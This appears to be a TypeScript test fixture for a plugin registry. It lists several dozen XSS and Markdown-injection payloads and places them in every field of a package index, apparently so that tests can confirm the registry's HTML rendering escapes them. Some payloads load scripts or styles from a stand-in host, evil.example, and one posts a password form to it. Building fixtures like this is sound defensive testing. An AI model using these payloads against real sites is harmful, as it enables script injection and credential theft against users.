/** What strangers may write to get something run in a reader's browser. */
import type { CapabilityRequest, DeviceType } from "../../src/plugin/mod.ts";
import type { Digest } from "../../src/registry/artifact_store.ts";
import type { Index, IndexPackage } from "../../src/registry/signed_index.ts";
import { demoIndex } from "./demo_index.ts";

/** Texts that have run elsewhere, in HTML and in Markdown. */
export const VECTORS: readonly string[] = [
  `<script>alert(1)</script>`,
  `</title><script>alert(1)</script>`,
  `"><script src=//evil.example/x.js></script>`,
  `'><img src=x onerror=alert(1)>`,
  `" autofocus onfocus="alert(1)" x="`,
  `<img src=x onerror=alert(1)>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<form action="//evil.example"><input name=password><button>go</button></form>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<details open ontoggle=alert(1)>`,
  `<template><script>alert(1)</script></template>`,
  `</template><script>alert(1)</script>`,
  `<!--><script>alert(1)</script>-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>`,
  `</script><script>alert(1)</script>`,
  `\u2028alert(1)//`,
  `[x](javascript:alert(1))`,
  `[x](JaVaScRiPt:alert(1))`,
  `[x](java&#115;cript:alert(1))`,
  `[x](javascript&colon;alert(1))`,
  `[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74(1))`,
  `[x](\u0001javascript:alert(1))`,
  `[x](java\nscript:alert(1))`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox(1))`,
  `[x](//evil.example)`,
  `[x](/\\evil.example)`,
  `[x](blob:https://example.org/1)`,
  `[x](http://example.org/"onmouseover="alert(1))`,
  `[x](<http://example.org/" onmouseover="alert(1)>)`,
  `[x](http://example.org 'a" onmouseover="alert(1)')`,
  `[x]: javascript:alert(1)\n\n[x]`,
  `<javascript:alert(1)>`,
  `<https://example.org/"onmouseover="alert(1)>`,
  `![x](javascript:alert(1))`,
  `![x](https://evil.example/pixel.png)`,
  `![x](x "a\\" onerror=\\"alert(1)")`,
  `![a](b)](javascript:alert(1))`,
  `[![x](x)](javascript:alert(1))`,
  `# <img src=x onerror=alert(1)>`,
  `# x" onclick="alert(1)`,
  '```"><script>alert(1)</script>\nx\n```',
  "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
  "`</code><script>alert(1)</script>`",
  `| a |\n|---|\n| <script>alert(1)</script> |`,
  `| a" onclick="alert(1) |\n|:--:|\n| x |`,
  `> <script>alert(1)</script>`,
  `- <input onfocus=alert(1) autofocus>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;script&#62;alert(1)&#60;/script&#62;`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<a id=main><a id=lunetteSearch name=lunettePackages>`,
  `\ud83d<script>\udc00`,
  `<script\u0000>alert(1)</script>`,
  `\${alert(1)} {{constructor.constructor('alert(1)')()}}`,
];

/** A package with a text of a stranger wherever there can be one. */
function hostilePackage(text: string, index: number): IndexPackage {
  const line = text.replaceAll("\n", " ");
  const capabilities: Record<string, CapabilityRequest> = {
    [line]: { kind: "http", origins: [line], methods: [line], description: line },
    memory: { kind: "memory", size: 4096, when: line, description: line },
  };
  return {
    id: `example.hostile-${index}`,
    publisher: "example",
    description: line,
    device_type: line as DeviceType,
    versions: [
      {
        version: line,
        digest: line as Digest,
        size_bytes: 1,
        published: line,
        capabilities,
        api_version: 1,
      },
      {
        version: `1.0.0-${index}`,
        digest: `sha256:${index}`,
        size_bytes: 1,
        published: "2026-01-01T00:00:00Z",
        capabilities: {},
        api_version: 1,
      },
    ],
    readme: text,
  };
}

/** An index in which a stranger has written all that can be written. */
export const hostileIndex: Index = {
  ...demoIndex,
  name: VECTORS.join(" "),
  issued: VECTORS[2],
  expires: VECTORS[4],
  packages: VECTORS.map(hostilePackage),
  revocations: VECTORS.map((reason, index) => ({
    what: "digest",
    value: index % 2 === 0 ? `sha256:${index}` : reason,
    reason,
    revoked: reason,
  })),
};
